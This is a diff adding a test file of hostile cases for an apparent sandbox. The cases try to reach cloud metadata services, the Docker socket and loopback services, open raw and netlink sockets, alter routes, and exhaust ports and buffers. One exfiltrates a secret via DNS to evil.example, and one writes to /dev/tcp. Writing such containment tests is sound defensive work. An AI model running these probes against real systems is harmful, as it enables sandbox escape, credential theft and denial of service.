@@ -1,0 +1,140 @@
+import { ANYTHING, EXITED, type HostileCase, OUT_OF_MEMORY } from './case.ts'
+import { ALL_REFUSED, refused } from './refused.ts'
+
+const UNREACHABLE = '[errno.ENETUNREACH, errno.EADDRNOTAVAIL, errno.EINVAL, errno.EHOSTUNREACH, errno.ENONET]'
+
+/** Reaching for the network, and for those who listen on this machine. */
+export const network: readonly HostileCase[] = [
+  {
+    name: 'connects to the host, the bridge, the metadata service and the world, by every kind of address',
+    source: refused(`started = time.monotonic()
+HOSTS = ("172.17.0.1", "172.18.0.1", "10.0.0.1", "192.168.0.1", "169.254.169.254", "169.254.170.2", "168.63.129.16", "100.100.100.200", "8.8.8.8", "0.0.0.1", "255.255.255.255", "224.0.0.1",
+    "fd00:ec2::254", "fe80::1", "2606:4700:4700::1111", "::ffff:169.254.169.254", "::ffff:8.8.8.8", "64:ff9b::808:808", "2002:808:808::1", "ff02::1")
+for host in HOSTS:
+    family = socket.AF_INET6 if ":" in host else socket.AF_INET
+    def tcp():
+        with socket.socket(family) as s: s.settimeout(1); s.connect((host, 80))
+    def udp():
+        with socket.socket(family, socket.SOCK_DGRAM) as s: s.settimeout(1); s.sendto(b"x", (host, 53))
+    refused(f"tcp {host}", tcp, ${UNREACHABLE})
+    refused(f"udp {host}", udp, ${UNREACHABLE})
+assert time.monotonic() - started < 2, "refused, but not at once"`),
+    ends: [EXITED],
+    prints: ALL_REFUSED,
+  },
+  {
+    name: 'looks for services of the host on its own loopback',
+    source: refused(`for port in (22, 53, 80, 443, 2375, 2376, 2377, 3000, 5432, 6379, 8080, 8081, 9090, 10250, 50051):
+    for host in ("127.0.0.1", "127.0.0.11", "127.0.0.53", "localhost"):
+        refused(f"{host}:{port}", lambda: socket.create_connection((host, port), 1), [errno.ECONNREFUSED, errno.EADDRNOTAVAIL, socket.EAI_AGAIN])
+for path in ("/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock", "/run/dbus/system_bus_socket", "/run/systemd/private"):
+    refused(path, lambda: socket.socket(socket.AF_UNIX).connect(path))
+names = {line.split()[-1] for line in open("/proc/net/unix") if "@" in line}
+assert not names, names
+for name in ("/containerd-shim/x", "/tmp/.X11-unix/X0", "dbus"):
+    refused(name, lambda: socket.socket(socket.AF_UNIX).connect(chr(0) + name), [errno.ECONNREFUSED])`),
+    ends: [EXITED],
+    prints: ALL_REFUSED,
+  },
+  {
+    name: 'asks for names, and carries secrets out in them',
+    source: `import socket, time
+started = time.monotonic()
+found = []
+for name in ("example.com", "metadata.google.internal", "host.docker.internal", "redis", "secret" * 9 + ".evil.example", "1.1.1.1.nip.io"):
+    try: found.append(socket.getaddrinfo(name, 80))
+    except OSError: pass
+print(found, time.monotonic() - started < 5)`,
+    ends: [EXITED],
+    prints: '[] True\n',
+  },
+  {
+    name: 'fetches from Node',
+    language: 'javascript',
+    source: `const places = ['http://169.254.169.254/latest/meta-data/', 'http://1.1.1.1/', 'http://[::1]:6379/', 'http://127.0.0.1:2375/info', 'https://example.com/']
+Promise.allSettled(places.map((place) => fetch(place))).then((answers) => console.log(answers.filter(({ status }) => status === 'fulfilled').length))`,
+    ends: [EXITED],
+    prints: '0\n',
+  },
+  {
+    name: 'connects by the shell’s own devices',
+    language: 'bash',
+    source: `for host in 172.17.0.1 169.254.169.254 1.1.1.1 127.0.0.1 ::1; do
+  for kind in tcp udp; do (echo x > /dev/$kind/$host/6379) 2>/dev/null && [ $kind = tcp ] && echo $host; done
+done; echo none`,
+    ends: [EXITED],
+    prints: 'none\n',
+  },
+  {
+    name: 'opens sockets of every family that listens in, or talks to the kernel',
+    source:
+      refused(`FAMILIES = {"packet": 17, "vsock": 40, "alg": 38, "bluetooth": 31, "can": 29, "key": 15, "xdp": 44, "qipcrtr": 42, "rds": 21, "tipc": 30, "smc": 43, "rxrpc": 33, "nfc": 39, "llc": 26, "x25": 9, "ax25": 3, "appletalk": 5, "phonet": 35, "kcm": 41, "mctp": 45, "ppp": 24}
+for name, family in FAMILIES.items():
+    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_SEQPACKET):
+        refused(f"{name} {kind}", lambda: socket.socket(family, kind))
+for protocol in range(1, 23): refused(f"netlink {protocol}", lambda: socket.socket(16, socket.SOCK_RAW, protocol))
+for family in (socket.AF_INET, socket.AF_INET6):
+    for protocol in (1, 6, 17, 58, 255): refused(f"raw {protocol}", lambda: socket.socket(family, socket.SOCK_RAW, protocol), [errno.EPROTONOSUPPORT])
+refused("mptcp", lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262).connect(("1.1.1.1", 80)), [errno.ENETUNREACH, errno.EPROTONOSUPPORT])`),
+    ends: [EXITED],
+    prints: ALL_REFUSED,
+  },
+  {
+    name: 'gives itself addresses, routes and interfaces',
+    source:
+      refused(`SIOCADDRT, SIOCSIFFLAGS, SIOCSIFADDR, SIOCSIFMTU, SIOCSIFNAME, TUNSETIFF, SIOCBRADDBR = 0x890B, 0x8914, 0x8916, 0x8922, 0x8923, 0x400454ca, 0x89a0
+plain = socket.socket()
+request = struct.pack("16sH14s8s", b"lo", socket.AF_INET, bytes((0, 0, 10, 1, 1, 1)), b"")
+for name in (SIOCADDRT, SIOCSIFFLAGS, SIOCSIFADDR, SIOCSIFMTU, SIOCSIFNAME, SIOCBRADDBR):
+    refused(hex(name), lambda: fcntl.ioctl(plain, name, request), [errno.EINVAL, errno.ENOTTY, errno.ENOPKG])
+def netlink(kind, body):
+    with socket.socket(16, socket.SOCK_RAW, 0) as s:
+        s.send(struct.pack("IHHII", 16 + len(body), kind, 0x605, 1, 0) + body)
+        error = struct.unpack_from("i", s.recv(4096), 16)[0]
+        if error: raise OSError(-error, os.strerror(-error))
+address = struct.pack("BBBBI", socket.AF_INET, 8, 0, 0, 1) + struct.pack("HH4s", 8, 2, bytes((10, 9, 9, 9)))
+refused("an address", lambda: netlink(20, address))
+refused("an interface", lambda: netlink(16, struct.pack("BBHiII", 0, 0, 0, 0, 0, 0) + struct.pack("HH8s", 12, 3, b"mine")))
+refused("a route", lambda: netlink(24, struct.pack("BBBBBBBBI", socket.AF_INET, 0, 0, 0, 254, 3, 0, 1, 0)))
+for option in (64, 96): refused(f"a filter {option}", lambda: plain.setsockopt(0, option, bytes(64)))
+refused("another device", lambda: plain.setsockopt(socket.SOL_SOCKET, 25, b"eth0"), [errno.ENODEV])
+refused("a larger buffer by force", lambda: plain.setsockopt(socket.SOL_SOCKET, 33, 1 << 30))
+refused("a mark", lambda: plain.setsockopt(socket.SOL_SOCKET, 36, 1))`),
+    ends: [EXITED],
+    prints: ALL_REFUSED,
+  },
+  {
+    name: 'listens on every port there is room for',
+    source: `import socket
+held = []
+try:
+    for port in range(1024, 65536): held.append(socket.create_server(("", port)))
+except OSError as error: print(error.strerror, len(held) > 900)`,
+    ends: [EXITED],
+    prints: 'Too many open files True\n',
+    shared: true,
+  },
+  {
+    name: 'fills the buffers of connections to itself, which the kernel counts for nobody',
+    source: `import socket
+server = socket.create_server(("127.0.0.1", 0), backlog=500)
+held, sent = [], 0
+try:
+    while True:
+        near = socket.create_connection(server.getsockname())
+        far, _ = server.accept()
+        held += [near, far]
+        near.setblocking(False)
+        near.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 24)
+        far.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 24)
+        try:
+            while True: sent += near.send(bytes(65536))
+        except BlockingIOError: pass
+except OSError: print(len(held) > 900, sent < 150 << 20)`,
+    limits: { memoryBytes: 96 * 1024 * 1024 },
+    ends: [EXITED, OUT_OF_MEMORY],
+    prints: /^(True True\n)?$/,
+    complains: ANYTHING,
+    shared: true,
+  },
+]
